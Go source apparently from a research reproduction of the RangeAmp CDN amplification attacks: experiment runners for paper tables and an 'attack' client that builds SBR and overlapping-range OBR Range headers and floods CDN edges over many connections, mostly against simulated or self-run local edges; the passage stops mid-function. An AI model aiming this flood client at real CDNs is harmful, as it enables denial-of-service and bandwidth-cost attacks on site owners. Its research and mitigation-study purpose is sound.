//	rangeamp -exp table1              # Table I   (range forwarding, SBR)
//	rangeamp -exp table2              # Table II  (multi-range forwarding, OBR FCDN)
//	rangeamp -exp table3              # Table III (multi-range replying, OBR BCDN)
//	rangeamp -exp sbr -sizes 1,10,25  # Table IV + Fig 6 (SBR sweep)
//	rangeamp -exp fig6 -sizes 1-25    # full Fig 6 sweep
//	rangeamp -exp obr                 # Table V   (OBR max amplification)
//	rangeamp -exp bandwidth           # Fig 7     (bandwidth practicability)
//	rangeamp -exp mitigation          # §VI-C mitigation ablation
//	rangeamp -exp sbr -format json    # machine-readable JSON Lines output
//	rangeamp -exp sbr -metrics        # also print the run's metrics delta
//	rangeamp -exp sbr -trace-out t.json  # span trees of every attack request (Perfetto)
//	rangeamp -list                    # registered experiments, one per line
//
// The campaign subcommand runs declarative config-matrix sweeps with
// persisted, resumable, diffable results (see internal/campaign):
//
//	rangeamp campaign -spec spec.json -out dir/             # run a sweep
//	rangeamp campaign -spec spec.json -out dir/ -resume     # continue one
//	rangeamp campaign -spec spec.json -out new/ -diff old/  # run, then compare
//
// The top subcommand is a live terminal dashboard over the daemons'
// /debug/live telemetry endpoints (see internal/obs):
//
//	rangeamp top -targets http://127.0.0.1:6061              # refresh in place
//	rangeamp top -targets http://127.0.0.1:6061 -once        # one snapshot
//	rangeamp top -targets http://127.0.0.1:6061 -json        # JSON lines
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"strconv"
	"strings"

	"repro/internal/exp"
	"repro/internal/report"
	"repro/internal/trace"
)

func main() {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	if err := run(ctx, os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "rangeamp:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, args []string, w io.Writer) error {
	if len(args) > 0 && args[0] == "campaign" {
		return runCampaign(ctx, args[1:], w)
	}
	if len(args) > 0 && args[0] == "top" {
		return runTop(ctx, args[1:], w)
	}
	fs := flag.NewFlagSet("rangeamp", flag.ContinueOnError)
	expFlag := fs.String("exp", "all", "experiment name from the registry (see -list), a comma list, or 'all'")
	sizes := fs.String("sizes", "1,10,25", "resource sizes in MB for the SBR sweep (list '1,10,25' or range '1-25')")
	format := fs.String("format", "", "output format: text (default), csv, or json (one JSON object per experiment)")
	csv := fs.Bool("csv", false, "emit tables as CSV (shorthand for -format csv)")
	showMetrics := fs.Bool("metrics", false, "after each experiment, print the metrics-registry delta its run accumulated")
	outDir := fs.String("out", "", "also write each table as CSV into this directory")
	parallel := fs.Int("parallel", 1, "max concurrent probe cells per experiment (and concurrent experiments under -exp all)")
	list := fs.Bool("list", false, "list registered experiments and exit")
	traceOut := fs.String("trace-out", "", "write the run's sampled request traces to this file (.json = Chrome trace-event for Perfetto/chrome://tracing, else text waterfalls)")
	traceSample := fs.Int("trace-sample", 0, "record every Nth attack request as a span tree (0 = off; -trace-out implies 1)")
	traceBuf := fs.Int("trace-buf", 512, "completed traces kept for -trace-out (oldest evicted first)")
	cpuProfile := fs.String("cpuprofile", "", "write a CPU profile of the experiment runs to this file")
	memProfile := fs.String("memprofile", "", "write a heap profile taken after the experiment runs to this file")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *traceOut != "" && *traceSample == 0 {
		*traceSample = 1
	}
	if *traceSample > 0 {
		trace.Default.Configure(trace.Config{SampleEvery: *traceSample, Capacity: *traceBuf})
	}
	if *format == "" {
		*format = "text"
		if *csv {
			*format = "csv"
		}
	}
	switch *format {
	case "text", "csv", "json":
	default:
		return fmt.Errorf("bad -format %q (want text, csv or json)", *format)
	}

	if *list {
		for _, e := range exp.List() {
			fmt.Fprintf(w, "%-14s %s\n", e.Name(), e.Describe())
		}
		return nil
	}

	sizesMB, err := parseSizes(*sizes)
	if err != nil {
		return err
	}
	if *parallel < 1 {
		return fmt.Errorf("bad -parallel %d", *parallel)
	}
	params := exp.Params{SizesMB: sizesMB, Parallel: *parallel}
	if *traceSample > 0 {
		// Each run gets its own isolated Runtime; route their spans into
		// the process tracer so -trace-out exports one combined ring.
		params.Trace = trace.Default
	}

	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			return err
		}
	}

	if *cpuProfile != "" {
		f, err := os.Create(*cpuProfile)
		if err != nil {
			return err
		}
		if err := pprof.StartCPUProfile(f); err != nil {
			f.Close()
			return err
		}
		defer func() {
			pprof.StopCPUProfile()
			f.Close()
		}()
	}
	if *memProfile != "" {
		defer func() {
			f, err := os.Create(*memProfile)
			if err != nil {
				fmt.Fprintln(os.Stderr, "rangeamp: memprofile:", err)
				return
			}
			runtime.GC() // settle allocations so the heap profile reflects retained memory
			if err := pprof.WriteHeapProfile(f); err != nil {
				fmt.Fprintln(os.Stderr, "rangeamp: memprofile:", err)
			}
			f.Close()
		}()
	}

	for _, name := range strings.Split(*expFlag, ",") {
		name = strings.TrimSpace(name)
		if name == "all" {
			// The registry walk: experiments run concurrently (up to
			// -parallel at once), results render in paper order.
			results, err := exp.RunAll(ctx, params)
			if err != nil {
				return err
			}
			for _, nr := range results {
				if err := emitResult(nr.Name, nr.Result, *format, *showMetrics, *outDir, w); err != nil {
					return err
				}
			}
			continue
		}
		res, err := exp.Run(ctx, name, params)
		if err != nil {
			return err
		}
		if err := emitResult(name, res, *format, *showMetrics, *outDir, w); err != nil {
			return err
		}
	}
	if *traceOut != "" {
		return writeTraces(*traceOut)
	}
	return nil
}

// writeTraces exports the default tracer's completed-trace ring: Chrome
// trace-event JSON for .json targets (loadable in Perfetto), text
// waterfalls otherwise.
func writeTraces(path string) error {
	traces := trace.Default.Traces()
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if strings.HasSuffix(path, ".json") {
		err = trace.WriteChromeTrace(f, traces)
	} else {
		err = trace.WriteWaterfall(f, traces)
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// emitResult renders one experiment's result to w and, with -out, each
// of its tables and figures to its own CSV file. A single-table
// experiment whose table slug matches the experiment name keeps the
// historic <exp>.csv filename; every other artifact gets
// <exp>-<slug>.csv so multi-table experiments no longer overwrite one
// file per table.
func emitResult(name string, res *exp.Result, format string, showMetrics bool, outDir string, w io.Writer) error {
	if outDir != "" {
		for _, t := range res.Tables {
			if err := writeCSV(outDir, name, t.FileSlug(), t.RenderCSV); err != nil {
				return err
			}
		}
		for _, f := range res.Figures {
			if err := writeCSV(outDir, name, f.FileSlug(), f.RenderCSV); err != nil {
				return err
			}
		}
	}
	var err error
	switch format {
	case "csv":
		err = res.RenderCSV(w)
	case "json":
		// JSON already embeds the stats delta; -metrics adds nothing.
		return res.RenderJSONNamed(w, name)
	default:
		err = res.Render(w)
	}
	if err != nil || !showMetrics {
		return err
	}
	if _, err := fmt.Fprintf(w, "metrics delta — %s\n", name); err != nil {
		return err
	}
	if err := res.Stats.WriteText(w); err != nil {
		return err
	}
	_, err = fmt.Fprintln(w)
	return err
}

// writeCSV writes one artifact into dir under the naming rule above.
func writeCSV(dir, expName, slug string, render func(io.Writer) error) error {
	base := expName + ".csv"
	if slug != expName {
		base = expName + "-" + report.Slugify(slug) + ".csv"
	}
	f, err := os.Create(filepath.Join(dir, base))
	if err != nil {
		return err
	}
	if err := render(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// parseSizes accepts "1,10,25" or "1-25".
func parseSizes(s string) ([]int, error) {
	if lo, hi, found := strings.Cut(s, "-"); found && !strings.Contains(s, ",") {
		a, err1 := strconv.Atoi(strings.TrimSpace(lo))
		b, err2 := strconv.Atoi(strings.TrimSpace(hi))
		if err1 != nil || err2 != nil || a < 1 || b < a {
			return nil, fmt.Errorf("bad size range %q", s)
		}
		out := make([]int, 0, b-a+1)
		for v := a; v <= b; v++ {
			out = append(out, v)
		}
		return out, nil
	}
	parts := strings.Split(s, ",")
	out := make([]int, 0, len(parts))
	for _, p := range parts {
		v, err := strconv.Atoi(strings.TrimSpace(p))
		if err != nil || v < 1 {
			return nil, fmt.Errorf("bad size %q", p)
		}
		out = append(out, v)
	}
	return out, nil
}
