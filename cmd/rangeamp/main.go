// Command rangeamp regenerates the paper's evaluation tables and
// figures from the simulated CDN substrate.
//
// Usage:
//
//	rangeamp -exp all                 # every experiment
//	rangeamp -exp table1              # Table I   (range forwarding, SBR)
//	rangeamp -exp table2              # Table II  (multi-range forwarding, OBR FCDN)
//	rangeamp -exp table3              # Table III (multi-range replying, OBR BCDN)
//	rangeamp -exp sbr -sizes 1,10,25  # Table IV + Fig 6 (SBR sweep)
//	rangeamp -exp fig6 -sizes 1-25    # full Fig 6 sweep
//	rangeamp -exp obr                 # Table V   (OBR max amplification)
//	rangeamp -exp bandwidth           # Fig 7     (bandwidth practicability)
//	rangeamp -exp mitigation          # §VI-C mitigation ablation
package main

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"repro/internal/billing"
	"repro/internal/core"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "rangeamp:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("rangeamp", flag.ContinueOnError)
	exp := fs.String("exp", "all", "experiment: table1|table2|table3|sbr|fig6|obr|bandwidth|bandwidth-all|mitigation|corpus|cost|h2|nodes|all")
	sizes := fs.String("sizes", "1,10,25", "resource sizes in MB for the SBR sweep (list '1,10,25' or range '1-25')")
	csv := fs.Bool("csv", false, "emit tables as CSV instead of aligned text")
	outDir := fs.String("out", "", "also write each table as CSV into this directory")
	if err := fs.Parse(args); err != nil {
		return err
	}

	sizesMB, err := parseSizes(*sizes)
	if err != nil {
		return err
	}

	if *outDir != "" {
		if err := os.MkdirAll(*outDir, 0o755); err != nil {
			return err
		}
	}
	experiments := strings.Split(*exp, ",")
	for _, e := range experiments {
		if err := runOne(strings.TrimSpace(e), sizesMB, *csv, *outDir, w); err != nil {
			return err
		}
	}
	return nil
}

func runOne(exp string, sizesMB []int, csv bool, outDir string, w io.Writer) error {
	emit := func(t interface {
		Render(io.Writer) error
		RenderCSV(io.Writer) error
	}) error {
		if outDir != "" {
			f, err := os.Create(filepath.Join(outDir, exp+".csv"))
			if err != nil {
				return err
			}
			if err := t.RenderCSV(f); err != nil {
				f.Close()
				return err
			}
			if err := f.Close(); err != nil {
				return err
			}
		}
		if csv {
			return t.RenderCSV(w)
		}
		return t.Render(w)
	}
	switch exp {
	case "table1":
		tab, _, err := core.Table1()
		if err != nil {
			return err
		}
		return emit(tab)
	case "table2":
		tab, _, err := core.Table2()
		if err != nil {
			return err
		}
		return emit(tab)
	case "table3":
		tab, _, err := core.Table3()
		if err != nil {
			return err
		}
		return emit(tab)
	case "sbr", "fig6":
		res, err := core.SBRSweep(sizesMB)
		if err != nil {
			return err
		}
		if err := emit(res.Table4()); err != nil {
			return err
		}
		fa, fb, fc := res.Fig6()
		for _, f := range []interface{ Render(io.Writer) error }{fa, fb, fc} {
			if err := f.Render(w); err != nil {
				return err
			}
		}
		return nil
	case "obr":
		tab, _, err := core.Table5()
		if err != nil {
			return err
		}
		return emit(tab)
	case "bandwidth":
		fig7a, fig7b, err := core.Bandwidth(core.DefaultBandwidthConfig())
		if err != nil {
			return err
		}
		if err := fig7a.Render(w); err != nil {
			return err
		}
		return fig7b.Render(w)
	case "mitigation":
		tab, err := core.Mitigations()
		if err != nil {
			return err
		}
		return emit(tab)
	case "corpus":
		rep, err := core.CorpusAudit(1, 200)
		if err != nil {
			return err
		}
		if err := emit(rep.Table()); err != nil {
			return err
		}
		for _, v := range rep.Violations {
			fmt.Fprintln(w, "VIOLATION:", v)
		}
		return nil
	case "bandwidth-all":
		tab, err := core.BandwidthAll(core.DefaultBandwidthConfig())
		if err != nil {
			return err
		}
		return emit(tab)
	case "cost":
		return emit(billing.CostTable(10<<20, 10, time.Hour))
	case "nodes":
		tab, _, err := core.NodeTargeting(5, 50)
		if err != nil {
			return err
		}
		return emit(tab)
	case "h2":
		tab, _, err := core.H2Comparison(sizesMB[0])
		if err != nil {
			return err
		}
		return emit(tab)
	case "all":
		for _, e := range []string{"table1", "table2", "table3", "sbr", "obr", "bandwidth", "bandwidth-all", "mitigation", "corpus", "cost", "h2", "nodes"} {
			if err := runOne(e, sizesMB, csv, outDir, w); err != nil {
				return fmt.Errorf("%s: %w", e, err)
			}
		}
		return nil
	default:
		return fmt.Errorf("unknown experiment %q", exp)
	}
}

// parseSizes accepts "1,10,25" or "1-25".
func parseSizes(s string) ([]int, error) {
	if lo, hi, found := strings.Cut(s, "-"); found && !strings.Contains(s, ",") {
		a, err1 := strconv.Atoi(strings.TrimSpace(lo))
		b, err2 := strconv.Atoi(strings.TrimSpace(hi))
		if err1 != nil || err2 != nil || a < 1 || b < a {
			return nil, fmt.Errorf("bad size range %q", s)
		}
		out := make([]int, 0, b-a+1)
		for v := a; v <= b; v++ {
			out = append(out, v)
		}
		return out, nil
	}
	parts := strings.Split(s, ",")
	out := make([]int, 0, len(parts))
	for _, p := range parts {
		v, err := strconv.Atoi(strings.TrimSpace(p))
		if err != nil || v < 1 {
			return nil, fmt.Errorf("bad size %q", p)
		}
		out = append(out, v)
	}
	return out, nil
}
