// Command attack is the RangeAmp attack client for the TCP demo stack:
// it crafts the SBR or OBR request shapes against a cdnsim edge and
// reports the attacker-side traffic (the tiny denominator of the
// amplification factor). Point it only at edges you run yourself.
//
// Usage:
//
//	attack -mode sbr -edge 127.0.0.1:8081 -path /10MB.bin -vendor cloudflare -count 10
//	attack -mode obr -edge 127.0.0.1:8083 -path /1KB.bin -fcdn cloudflare -bcdn akamai
//	attack -mode sbr -edge 127.0.0.1:8081 -trace-out traces.json   # Perfetto-loadable timeline
//
// The -sim flag targets an in-process simulated topology instead of a
// TCP edge — no daemons needed — with an engine selector. The vtime
// engine runs each client as discrete-event state, so million-client
// floods finish in seconds:
//
//	attack -sim -workers 1000 -per-worker 2 -keepalive            # goroutine/pipe engine
//	attack -sim -engine vtime -workers 1000000 -keepalive -edges 4
//	attack -sim -engine vtime -workers 1000000 -keepalive -edges 4 -metrics-addr 127.0.0.1:6061
//	                                  # then: rangeamp top -targets http://127.0.0.1:6061
package main

import (
	"bufio"
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/h2"
	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/metrics"
	"repro/internal/netsim"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/trace"
	"repro/internal/transport"
	"repro/internal/vendor"
	"repro/internal/vtime"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

// sendFunc performs one prepared request against an edge and returns
// bytes out/in on the wire and the response status.
type sendFunc func(addr string, req *httpwire.Request) (up, down int64, status int, err error)

func run(args []string, out io.Writer) error {
	fs := flag.NewFlagSet("attack", flag.ContinueOnError)
	mode := fs.String("mode", "sbr", "attack: sbr|obr")
	proto := fs.String("proto", "h1", "protocol to speak to the edge: h1|h2")
	edgeAddr := fs.String("edge", "127.0.0.1:8081", "edge (FCDN) address")
	path := fs.String("path", "/10MB.bin", "target resource path")
	host := fs.String("host", core.AttackHost, "Host header")
	vendorName := fs.String("vendor", "cloudflare", "sbr: edge vendor (selects the exploited Range case)")
	sizeBytes := fs.Int64("size", 10<<20, "sbr: resource size (selects size-conditional cases)")
	count := fs.Int("count", 1, "requests to send")
	keepAlive := fs.Bool("keepalive", false, "h1: send all requests over one persistent connection instead of a dial per request")
	conns := fs.Int("conns", 1, "sbr/h1: flood -count probes over this many concurrent keep-alive sessions")
	fcdnName := fs.String("fcdn", "cloudflare", "obr: FCDN vendor (selects the range-case lead and limits)")
	bcdnName := fs.String("bcdn", "akamai", "obr: BCDN vendor (bounds n)")
	n := fs.Int("n", 0, "obr: number of overlapping ranges (0 = planned max)")
	sim := fs.Bool("sim", false, "flood an in-process simulated topology instead of a TCP edge (no daemons needed)")
	engine := fs.String("engine", "", "sim: flood engine, pipe (default) or vtime (discrete-event, scales to millions of clients)")
	workers := fs.Int("workers", 8, "sim: concurrent attacker clients")
	perWorker := fs.Int("per-worker", 1, "sim: requests per client")
	edges := fs.Int("edges", 1, "sim: edge PoP count (1 = single-edge SBR topology, >1 = multi-node cluster)")
	seed := fs.Int64("seed", 1, "sim: vtime arrival-jitter seed (a fixed seed makes the run byte-deterministic)")
	metricsAddr := fs.String("metrics-addr", "", "serve Prometheus /metrics, /debug/pprof and /debug/traces on this address (empty = off)")
	traceOut := fs.String("trace-out", "", "write client-side request spans to this file on exit (.json = Chrome trace-event, else text waterfalls)")
	traceSample := fs.Int("trace-sample", 0, "record every Nth request as a span (0 = off; -trace-out implies 1); the traceparent header lets a cdnsim edge join the same trace")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *traceOut != "" && *traceSample == 0 {
		*traceSample = 1
	}
	if *traceSample > 0 {
		trace.Default.Configure(trace.Config{SampleEvery: *traceSample, Capacity: 512})
	}
	// A vtime -sim run owns its scheduler here, so the live telemetry
	// engine can sample on the virtual clock instead of a wall ticker.
	var sched *vtime.Scheduler
	if *sim && core.Engine(*engine) == core.EngineVTime {
		sched = vtime.NewScheduler()
	}
	if *metricsAddr != "" {
		ml, err := net.Listen("tcp", *metricsAddr)
		if err != nil {
			return err
		}
		// The attack client's accounted hop is its edge-facing segment;
		// the live engine exposes its request/response rates while a long
		// flood runs (there is no victim segment on this side of the CDN).
		// In -sim mode the whole topology is in-process, so both hops of
		// the amplification ratio are observable: the single-edge SBR
		// segments are the obs defaults, a cluster reads node 0 (workers
		// spread evenly, so node 0's factor is representative).
		ocfg := obs.Config{AttackerSegment: "client-edge"}
		if *sim {
			ocfg = obs.Config{}
			if *edges > 1 {
				ocfg = obs.Config{VictimSegment: "node0-upstream", AttackerSegment: "node0-client"}
			}
		}
		if sched != nil {
			ocfg.Now = sched.Now
		}
		live := obs.New(ocfg)
		if sched != nil {
			// Virtual-clock sampling: frames land at exact virtual
			// instants (one per simulated interval), not wherever a wall
			// ticker happens to fire relative to event-loop progress.
			// A short virtual span drains in one burst at the end of the
			// event loop, so linger briefly after Stop — Stop closes the
			// subscriber channels, and the pause lets /debug/live SSE
			// consumers drain their buffered final frames before the
			// process exits (defers run LIFO: Stop, then the sleep).
			scheduleVirtualSampling(sched, live, obs.DefaultInterval)
			defer time.Sleep(100 * time.Millisecond)
		} else {
			live.Start()
		}
		defer live.Stop()
		mux := metrics.NewDebugMux(metrics.Default)
		mux.Handle("/debug/traces", trace.Default.Handler())
		mux.Handle("/debug/live", live.Handler())
		log.Printf("metrics on http://%s/metrics, traces on /debug/traces, live telemetry on /debug/live", ml.Addr())
		go http.Serve(ml, mux) //nolint:errcheck // dies with the process
	}

	if *sim {
		if err := runSim(*engine, *vendorName, *sizeBytes, *workers, *perWorker, *edges, *keepAlive, *seed, sched, out); err != nil {
			return err
		}
		if *traceOut != "" {
			return writeTraces(*traceOut)
		}
		return nil
	}
	if *engine != "" {
		return fmt.Errorf("-engine requires -sim (the TCP path has no engine selector)")
	}

	if *conns > 1 {
		if *mode != "sbr" || *proto != "h1" {
			return fmt.Errorf("-conns requires -mode sbr -proto h1")
		}
		if err := runConnsFlood(*edgeAddr, *path, *host, *vendorName, *sizeBytes, *count, *conns, out); err != nil {
			return err
		}
		if *traceOut != "" {
			return writeTraces(*traceOut)
		}
		return nil
	}

	var sendFn sendFunc
	switch *proto {
	case "h1":
		sendFn = send
		if *keepAlive {
			ka := newKeepAliveSender(*edgeAddr)
			defer ka.Close()
			sendFn = ka.send
		}
	case "h2":
		if *keepAlive {
			return fmt.Errorf("-keepalive requires -proto h1 (HTTP/2 streams already share one connection)")
		}
		sendFn = sendH2
	default:
		return fmt.Errorf("unknown proto %q", *proto)
	}

	if err := runMode(*mode, sendFn, *edgeAddr, *path, *host, *vendorName, *sizeBytes, *count, *fcdnName, *bcdnName, *n, out); err != nil {
		return err
	}
	if *traceOut != "" {
		return writeTraces(*traceOut)
	}
	return nil
}

func runMode(mode string, sendFn sendFunc, edgeAddr, path, host, vendorName string, sizeBytes int64, count int, fcdnName, bcdnName string, n int, out io.Writer) error {
	switch mode {
	case "sbr":
		exploit := core.SBRExploit(vendorName, sizeBytes)
		fmt.Fprintf(out, "SBR against %s: Range: %s (x%d per probe)\n", edgeAddr, exploit.RangeHeader, exploit.Repeat)
		var sent, received int64
		start := time.Now()
		for i := 0; i < count; i++ {
			target := path + "?cb=atk" + strconv.Itoa(i)
			for r := 0; r < exploit.Repeat; r++ {
				up, down, status, err := tracedSend(sendFn, edgeAddr, target, host, exploit.RangeHeader)
				if err != nil {
					return fmt.Errorf("request %d: %w", i, err)
				}
				sent += up
				received += down
				if i == 0 && r == 0 {
					fmt.Fprintf(out, "first response: HTTP %d, %d bytes on the wire\n", status, down)
				}
			}
		}
		fmt.Fprintf(out, "sent %d requests in %v: %d bytes out, %d bytes in\n",
			count*exploit.Repeat, time.Since(start).Round(time.Millisecond), sent, received)
		fmt.Fprintf(out, "origin-side amplification is visible in origind/cdnsim logs\n")
		return nil

	case "obr":
		fcdn, ok := vendor.ByName(fcdnName)
		if !ok {
			return fmt.Errorf("unknown fcdn %q", fcdnName)
		}
		bcdn, ok := vendor.ByName(bcdnName)
		if !ok {
			return fmt.Errorf("unknown bcdn %q", bcdnName)
		}
		plan := core.PlanMaxN(fcdn, bcdn, path)
		if n > 0 {
			plan.N = n
		}
		rangeHeader := core.BuildOverlappingRange(plan.FirstToken, plan.N)
		fmt.Fprintf(out, "OBR against %s: %d overlapping ranges (Range header %d bytes)\n",
			edgeAddr, plan.N, len(rangeHeader))
		up, down, status, err := tracedSend(sendFn, edgeAddr, path, host, rangeHeader)
		if err != nil {
			return err
		}
		fmt.Fprintf(out, "HTTP %d: sent %d bytes, received %d bytes (the fcdn-bcdn segment carried ~this)\n",
			status, up, down)
		return nil

	default:
		return fmt.Errorf("unknown mode %q", mode)
	}
}

// runSim is the -sim mode: the SBR flood against an in-process
// simulated topology (single edge, or an -edges N PoP cluster), with
// the engine selector the in-memory flood entry points expose. The
// vtime engine replaces goroutine-per-client execution with
// discrete-event state, so populations in the millions complete in
// seconds of wall time with byte accounting identical to the pipe
// engine's.
func runSim(engineName, vendorName string, sizeBytes int64, workers, perWorker, edges int, keepAlive bool, seed int64, sched *vtime.Scheduler, out io.Writer) error {
	eng := core.Engine(engineName)
	switch eng {
	case "", core.EnginePipe, core.EngineVTime:
	default:
		return fmt.Errorf("unknown engine %q (want %s or %s)", engineName, core.EnginePipe, core.EngineVTime)
	}
	profile, ok := vendor.ByName(vendorName)
	if !ok {
		return fmt.Errorf("unknown vendor %q", vendorName)
	}
	label := string(eng)
	if label == "" {
		label = string(core.EnginePipe)
	}
	fmt.Fprintf(out, "simulated SBR flood: %d clients x %d requests, %s engine, %d edge(s), %s, %d-byte target\n",
		workers, perWorker, label, edges, vendorName, sizeBytes)
	start := time.Now()

	if edges > 1 {
		res, err := core.RunClusterFlood(context.Background(), nil, core.ClusterFloodOptions{
			Vendor:       profile,
			Nodes:        edges,
			Workers:      workers,
			PerWorker:    perWorker,
			KeepAlive:    keepAlive,
			ResourceSize: sizeBytes,
			Engine:       eng,
			VTime:        core.VTimeOptions{Seed: seed, Sched: sched},
		})
		if err != nil {
			return err
		}
		printSimResult(out, res.Requests, res.Blocked, res.Dials,
			res.Amplification, res.VirtualDuration, time.Since(start))
		fmt.Fprintf(out, "busiest node carried %.1f%% of upstream load across %d PoPs\n",
			res.Concentration*100, len(res.PerNode))
		return nil
	}

	store := core.NewStoreWith(sizeBytes)
	topo, err := core.NewSBRTopology(profile, store, core.SBROptions{OriginRangeSupport: true})
	if err != nil {
		return err
	}
	defer topo.Close()
	res, err := core.RunSBRFloodOpts(context.Background(), topo, core.FloodOptions{
		ResourceSize: sizeBytes,
		Workers:      workers,
		PerWorker:    perWorker,
		KeepAlive:    keepAlive,
		Engine:       eng,
		VTime:        core.VTimeOptions{Seed: seed, Sched: sched},
	})
	if err != nil {
		return err
	}
	printSimResult(out, res.Requests, res.Blocked, res.Dials,
		res.Amplification, res.VirtualDuration, time.Since(start))
	return nil
}

// scheduleVirtualSampling replaces the live engine's wall-clock ticker
// with events on the flood's virtual clock: a baseline sample at
// virtual zero, then one frame per virtual interval for as long as the
// flood has events pending. Each tick flushes the scheduler's batched
// accounting first, so the frame's counters are exact at its instant —
// /debug/live frames from a vtime run carry virtual-time-exact rates
// and virtual (Epoch-based) timestamps.
func scheduleVirtualSampling(sched *vtime.Scheduler, live *obs.Engine, interval time.Duration) {
	live.Sample() // baseline frame: establishes t0, not published
	var tick func()
	tick = func() {
		sched.Flush()
		live.Sample()
		if sched.Pending() > 0 {
			sched.After(interval, tick)
		}
	}
	sched.After(interval, tick)
}

func printSimResult(out io.Writer, requests, blocked int, dials int64, amp measure.Amplification, virtual, wall time.Duration) {
	fmt.Fprintf(out, "flood: %d requests over %d connection(s) in %v wall time\n",
		requests, dials, wall.Round(time.Millisecond))
	if virtual > 0 {
		fmt.Fprintf(out, "virtual time simulated: %v\n", virtual.Round(time.Millisecond))
	}
	if blocked > 0 {
		fmt.Fprintf(out, "blocked: %d requests rejected by the edge\n", blocked)
	}
	fmt.Fprintf(out, "victim bytes %d, attacker bytes %d, amplification factor %.1f\n",
		amp.VictimBytes, amp.AttackerBytes, amp.Factor())
}

// attackRequest builds the canonical attack request shape.
func attackRequest(target, host, rangeHeader string) *httpwire.Request {
	req := httpwire.NewRequest("GET", target, host)
	req.Headers.Add("User-Agent", "rangeamp-attack/1.0")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	return req
}

// tracedSend wraps one send in a client root span. The injected
// traceparent header lets a tracing cdnsim/origind on the far side
// record its half of the tree under the same trace ID, so the two
// processes' /debug/traces exports can be correlated.
func tracedSend(sendFn sendFunc, addr, target, host, rangeHeader string) (int64, int64, int, error) {
	req := attackRequest(target, host, rangeHeader)
	sp := trace.Default.StartRoot("attacker", target)
	if sp.Recording() {
		if len(rangeHeader) > 48 {
			rangeHeader = rangeHeader[:45] + "..."
		}
		if rangeHeader != "" {
			sp.SetAttr("range", rangeHeader)
		}
		trace.Inject(sp, &req.Headers)
	}
	up, down, status, err := sendFn(addr, req)
	if sp.Recording() {
		sp.SetAttrInt("bytes_up", up)
		sp.SetAttrInt("bytes_down", down)
		if status != 0 {
			sp.SetAttrInt("status", int64(status))
		}
		if err != nil {
			sp.SetAttr("error", err.Error())
		}
	}
	sp.End()
	return up, down, status, err
}

// writeTraces exports the run's completed spans: Chrome trace-event
// JSON for .json targets, text waterfalls otherwise.
func writeTraces(path string) error {
	traces := trace.Default.Traces()
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if strings.HasSuffix(path, ".json") {
		err = trace.WriteChromeTrace(f, traces)
	} else {
		err = trace.WriteWaterfall(f, traces)
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	return err
}

// sendH2 performs one request over prior-knowledge cleartext HTTP/2
// and returns approximate bytes out/in and the response status.
func sendH2(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, 0, 0, err
	}
	seg := netsim.NewSegment("client-edge")
	counted := &countingNetConn{Conn: conn, seg: seg}
	defer counted.Close()

	resp, err := h2.Fetch(counted, req)
	if err != nil {
		return 0, 0, 0, err
	}
	tr := seg.Traffic()
	return tr.Up, tr.Down, resp.StatusCode, nil
}

// countingNetConn counts TCP bytes into a segment.
type countingNetConn struct {
	net.Conn
	seg *netsim.Segment
}

func (c *countingNetConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.seg.AddDown(n)
	return n, err
}

func (c *countingNetConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.seg.AddUp(n)
	return n, err
}

// keepAliveSender is the -keepalive send path: one origin.Client
// session over real TCP, every request multiplexed on its persistent
// connection. Per-request byte counts come from deltas on the
// session's private segment (the client serializes its exchanges, so
// the delta belongs to exactly one request).
type keepAliveSender struct {
	seg    *netsim.Segment
	client *origin.Client
}

func newKeepAliveSender(addr string) *keepAliveSender {
	seg := netsim.NewSegment("client-edge")
	return &keepAliveSender{seg: seg, client: origin.NewClient(transport.Dialer{}, addr, seg)}
}

func (s *keepAliveSender) send(addr string, req *httpwire.Request) (up, down int64, status int, err error) {
	before := s.seg.Traffic()
	resp, err := s.client.Do(req)
	d := s.seg.Since(before)
	if err != nil {
		return d.Up, d.Down, 0, err
	}
	return d.Up, d.Down, resp.StatusCode, nil
}

func (s *keepAliveSender) Close() {
	st := s.client.Stats()
	s.client.Close()
	if st.Requests > 0 {
		log.Printf("keep-alive session: %d requests over %d connection(s)", st.Requests, st.Dials)
	}
}

// runConnsFlood is the -conns N mode: the SBR probe count split across
// N concurrent keep-alive sessions, each session one persistent TCP
// connection to the edge.
func runConnsFlood(edgeAddr, path, host, vendorName string, sizeBytes int64, count, conns int, out io.Writer) error {
	exploit := core.SBRExploit(vendorName, sizeBytes)
	fmt.Fprintf(out, "SBR flood against %s: Range: %s (x%d per probe) over %d keep-alive sessions\n",
		edgeAddr, exploit.RangeHeader, exploit.Repeat, conns)
	type worker struct {
		up, down int64
		requests int
		failures int
		dials    int64
		firstErr error
	}
	results := make([]worker, conns)
	start := time.Now()
	var wg sync.WaitGroup
	for w := 0; w < conns; w++ {
		share := count / conns
		if w < count%conns {
			share++
		}
		wg.Add(1)
		go func(w, share int) {
